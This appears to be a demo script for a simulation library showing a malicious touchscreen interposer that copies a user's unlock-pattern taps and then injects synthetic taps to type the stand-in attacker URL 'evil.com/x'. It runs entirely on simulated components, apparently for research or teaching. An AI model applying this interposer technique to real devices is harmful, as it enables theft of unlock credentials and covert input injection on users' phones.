"""A malicious replacement part logs every touch and types on its own.

The interposer sits between driver and controller. It relays real
touches after copying them, and it can push synthetic frames at up to
60 taps per second that the driver cannot tell apart from real ones.
"""

from touchsim.attacker import ChipInTheMiddle, KeyStreamDecoder, logged_touches, plan_taps
from touchsim.bus import Bus
from touchsim.controller import SynapticsController, TouchFrame, TouchState
from touchsim.driver import SynapticsDriver
from touchsim.harness import default_ui

ctl = SynapticsController()
bus = Bus(ctl)
mitm = ChipInTheMiddle()
bus.install(mitm)
seen = []
SynapticsDriver(bus, sink=seen.extend).boot_probe()

# The user draws an unlock pattern as a sequence of taps on the 3x3 grid.
ui = default_ui()
pattern = [0, 4, 8, 5]
t = bus.now
for dot in pattern:
    x, y = ui.dots[dot]
    for state in (TouchState.DOWN, TouchState.UP):
        bus.sched.call_at(t, lambda f=TouchFrame.tap(x, y, state): ctl.queue_touch(f))
        t += 40_000
bus.sched.run()

downs = [e for lt in mitm.log for e in lt.events if e.state is TouchState.DOWN]
print("pattern logged by the interposer:", [ui.dot_at(e.x, e.y) for e in downs])
print("same touches visible on the wire:", len(logged_touches(bus.trace.records)), "reports")

# Now it types on its own.
plan = plan_taps("evil.com/x")
print(f"injecting {plan.taps} taps over {float(plan.duration) * 1000:.0f} ms")
seen.clear()
mitm.inject(plan)
bus.sched.run()

dec = KeyStreamDecoder()
for e in seen:
    if e.state is TouchState.DOWN:
        dec.feed(e.x, e.y)
print("keyboard under the host's finger sees:", repr(dec.text()))
